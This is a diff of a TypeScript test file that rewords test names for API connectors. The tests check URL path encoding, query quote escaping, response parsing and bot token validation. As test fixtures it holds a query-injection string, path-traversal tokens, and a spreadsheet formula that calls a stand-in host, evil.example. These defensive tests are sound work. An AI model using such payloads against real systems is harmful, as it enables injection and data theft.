@@ -31,7 +31,7 @@ const accountOf = ({ auth }: Connector): Account => ({
   credentials: Object.fromEntries(auth.fields.map(({ name, example }) => [name, example ?? 'sample'])),
 });
 
-/** An input with the example of each member that must be there. */
+/** An input with the example of each required member. */
 const sampleOf = ({ input, required }: HttpAction): JsonObject =>
   Object.fromEntries(
     required.map((name) => {
@@ -55,14 +55,14 @@ const urlOf = (action: HttpAction, account: Account, input: JsonObject): string 
   }
 };
 
-test.each(actions)('$type: no word of its input leaves its part of the path', ({ connector, action }) => {
+test.each(actions)('$type: no value of its input changes other parts of the path', ({ connector, action }) => {
   const account = accountOf(connector);
   const sample = sampleOf(action);
   for (const name of Object.keys(action.input)) {
     const plain = urlOf(action, account, { ...sample, [name]: 'QQQQ' });
     for (const word of HOSTILE) {
       const url = urlOf(action, account, { ...sample, [name]: word });
-      // An empty one is as good as none.
+      // An empty value counts as missing.
       if (url === null || plain === null || word === '') continue;
       expect(url).toBe(plain.replaceAll('QQQQ', encodeURIComponent(word.replace(/\p{Cs}/gu, '\ufffd'))));
       expect(url.split('/')).not.toContain('..');
@@ -70,7 +70,7 @@ test.each(actions)('$type: no word of its input leaves its part of the path', ({
   }
 });
 
-/** What may come instead of an answer: nothing, or anything at all in each place that a provider uses. */
+/** Malformed responses: nothing, or unexpected values in each field that a provider uses. */
 const JUNK: Json[] = [null, true, -1, 1e308, '', 'x'.repeat(40), [], [null], [[]], {}];
 const PLACES = [
   'error',
@@ -110,18 +110,21 @@ const answerOf = (status: number, body: Json): ConnectorAnswer => ({
   bytes: Buffer.from('x'),
 });
 
-test.each(actions)('$type: reads any answer, and its next page is at the same place', ({ connector, action }) => {
-  const sample = sampleOf(action);
-  for (const body of BODIES) {
-    const answer = answerOf(200, body);
-    const read: unknown = action.read?.(answer, sample) ?? {};
-    expect(read).toEqual(expect.any(Object));
-    if (action.pages === undefined) continue;
-    expect(Array.isArray(action.pages.items(answer))).toBe(true);
-    const asked = action.request(sample, accountOf(connector), WORLD);
-    expect(action.pages.next(answer, asked)?.url ?? asked.url).toBe(asked.url);
-  }
-});
+test.each(actions)(
+  '$type: reads any response, and requests the next page from the same host',
+  ({ connector, action }) => {
+    const sample = sampleOf(action);
+    for (const body of BODIES) {
+      const answer = answerOf(200, body);
+      const read: unknown = action.read?.(answer, sample) ?? {};
+      expect(read).toEqual(expect.any(Object));
+      if (action.pages === undefined) continue;
+      expect(Array.isArray(action.pages.items(answer))).toBe(true);
+      const asked = action.request(sample, accountOf(connector), WORLD);
+      expect(action.pages.next(answer, asked)?.url ?? asked.url).toBe(asked.url);
+    }
+  },
+);
 
 test.each(neutral.map((connector) => ({ name: connector.name, connector })))(
   '$name: tells any fault in a word and a sentence',
@@ -146,18 +149,18 @@ const request = (connector: Connector, name: string, input: JsonObject): Connect
   return action.request(input, accountOf(connector), WORLD);
 };
 
-test('words of a search cannot leave their quotes', () => {
+test('words of a search cannot end their quotes', () => {
   const { query } = request(suiteDrive, 'search_files', { name_contains: "x' or '1' = '1", folder_id: "\\'" });
   expect(query?.q).toBe("trashed = false and name contains 'x\\' or \\'1\\' = \\'1' and '\\\\\\'' in parents");
 });
 
-test('rows are written as they are unless their author says otherwise, so that no text of a stranger is a formula', () => {
+test('rows are plain values by default, so that untrusted text is not a formula', () => {
   const input = { spreadsheet_id: 'x', range: 'A', rows: [['=IMPORTDATA("https://evil.example")']] };
   for (const name of ['append_rows', 'update_range'])
     expect(request(suiteSheets, name, input).query).toMatchObject({ valueInputOption: 'RAW' });
 });
 
-test.each(['../../x', 'a/b', 'a?b', 'a b', ''])('a token %j of a bot is in no path', (bot_token) => {
+test.each(['../../x', 'a/b', 'a?b', 'a b', ''])('a bot token %j is refused, not put into a path', (bot_token) => {
   const ask = () => botMessenger.sign({ method: 'GET', url: '/getMe' }, { credentials: { bot_token } });
   expect(ask).toThrow(Unusable);
 });
